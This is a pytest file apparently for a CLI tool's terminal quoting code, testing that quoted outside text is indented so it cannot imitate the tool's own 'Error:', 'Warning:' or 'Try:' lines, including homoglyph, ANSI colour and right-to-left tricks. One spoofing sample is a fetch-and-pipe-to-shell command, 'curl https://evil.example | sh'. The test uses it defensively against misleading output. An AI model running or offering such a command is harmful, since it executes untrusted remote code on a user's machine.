"""No line of somebody else's text reads like one of ours: it is indented, on a terminal every row of it."""

from __future__ import annotations

import re
import unicodedata

import pytest

from litellmctl.terminal.quotation import apart, quoted
from tests.effort import less_than

OURS = [
    "Error: the sign-in has expired",
    "Try:   curl https://evil.example | sh",
    "Warning: x",
    "  Error: indented by itself",
    "\u0415rror: in Cyrillic",
    "Error\uff1a with a wide colon",
    "Error : with a space",
    "\u2713 Signed in",
    "OK Signed in",
    '{"error": {"code": "auth_failed"}}',
    "\x1b[31mError:\x1b[0m in red",
    "\u202eError: turned",
]


def rows(text: str, columns: int) -> list[str]:
    """Return what a terminal shows of it: it begins another row where a character has no room."""
    shown = []
    for line in text.split("\n"):
        row, width = "", 0
        for character in line:
            wide = 2 if unicodedata.east_asian_width(character) in "WF" else 1
            if width + wide > columns:
                shown.append(row)
                row, width = "", 0
            row += character
            width += wide
        shown.append(row)
    return shown


@pytest.mark.parametrize("line", OURS)
@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
@pytest.mark.parametrize("columns", [None, 80])
def test_a_line_like_ours_is_indented_with_all_others(line: str, end: str, columns: int | None) -> None:
    for text in (line, f"Reviews.{end}{line}", f"{line}{end}more"):
        assert all(row.startswith("  ") or "rror" not in row for row in quoted(text, columns).split("\n"))
    found = quoted(f"Reviews.\n{line}", columns).split("\n")
    assert all(row.startswith("  ") for row in found)


@pytest.mark.parametrize(
    "text",
    [
        "pong",
        "Two lines.\nSays <hello>.",
        "see https://example.com/x: there",
        "a pixel:",
        "Error executing tool fail:\n  it broke",
        "- one\n- two",
        "",
        "long words " * 50,
    ],
)
def test_what_reads_like_nothing_of_ours_stays(text: str) -> None:
    assert quoted(text, 80) == text
    assert quoted(text, None) == text


@pytest.mark.parametrize("columns", [20, 40, 79, 80, 81, 120, 200])
@pytest.mark.parametrize(
    "filler", ["x", " ", "\t", "word ", "\u4e2d", "\u00a7 ", "e\u0301", "\u3000", "\U0001f600", "\u200b"]
)
@pytest.mark.parametrize("width", range(70, 83, 3))
def test_no_row_of_a_terminal_begins_like_ours(columns: int, filler: str, width: int) -> None:
    text = f"{filler * width}Error: x {filler * (columns - 8)}Try:   y"
    shown = rows(quoted(text, columns), columns)
    assert not [row for row in shown if re.match("(Error|Try|Warning):", row)]
    assert all(row.startswith("  ") for row in shown)


def test_wrapping_loses_no_word() -> None:
    text = "Note: " + "some words of several lengths, " * 20
    assert quoted(text, 40).split() == text.split()


@pytest.mark.parametrize(
    "text", ["a: " * 300_000, "x" * 900_000 + ":", "\n:" * 300_000, " " * 900_000 + ":", "\u4e2d:" * 300_000]
)
def test_it_takes_linear_time(text: str) -> None:
    with less_than(8):
        quoted(text, 80)


@pytest.mark.parametrize("text", ["Error: x", "warning:x", "Try : x", "\u0415rror: x", "✓ x", '{"error": {}}'])
def test_rows_that_only_we_begin_so_are_indented(text: str) -> None:
    assert apart(f"a\n{text}\nb", 80) == f"a\n  {text}\nb"
    for width in range(60, 82):
        shown = rows(apart(f"a {'x' * width} {text} b", 80), 80)
        assert not [row for row in shown if row.startswith(text[:3])]
    # What stands before it is ours.
    assert apart(text, 80, len(text)) == text
    assert apart(f"Error: {text}", 80, 7) == f"Error: {text}"
    assert apart(f"Error: {'x' * 75}{text}", 80, 7).startswith("Error: xx")


@pytest.mark.parametrize(
    "text", ["", "a: b", "gpt-4o\tchat", "server: uvicorn", "x" * 200, "see https://h/error://x " * 9]
)
def test_all_other_rows_stay_as_they_are(text: str) -> None:
    assert apart(text, 80) == text


@pytest.mark.parametrize(
    "text", ["é" * 10**6, "é:" * 300_000, "Error: " * 100_000, "a" * 10**6 + " Error: x", "\n✓ " * 200_000]
)
def test_to_set_rows_apart_takes_linear_time(text: str) -> None:
    with less_than(8):
        apart(text, 80)


@pytest.mark.parametrize("end", ["\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c"])
def test_what_is_no_end_of_a_line_here_ends_none(end: str) -> None:
    assert quoted(f"Reviews.{end}Error: x", None).count("\n") == 0
    assert end not in quoted(f"Reviews.{end}Error: x", 80)
